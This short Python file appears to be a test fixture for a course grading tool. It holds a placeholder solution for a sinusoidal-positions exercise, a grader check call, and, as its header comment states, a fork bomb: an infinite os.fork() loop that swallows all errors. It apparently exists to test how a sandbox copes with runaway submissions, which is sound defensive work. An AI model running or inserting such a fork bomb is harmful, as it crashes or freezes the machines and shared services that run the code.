# ruff: noqa
# A correct first task, then a fork bomb: every process forks for ever.
import os

import torch


{POSITIONS_SOLUTION}


# %%
from seqbook.checks import course

print(course.check("positions", sinusoidal_positions))

# %%
while True:
    try:
        os.fork()
    except BaseException:
        pass
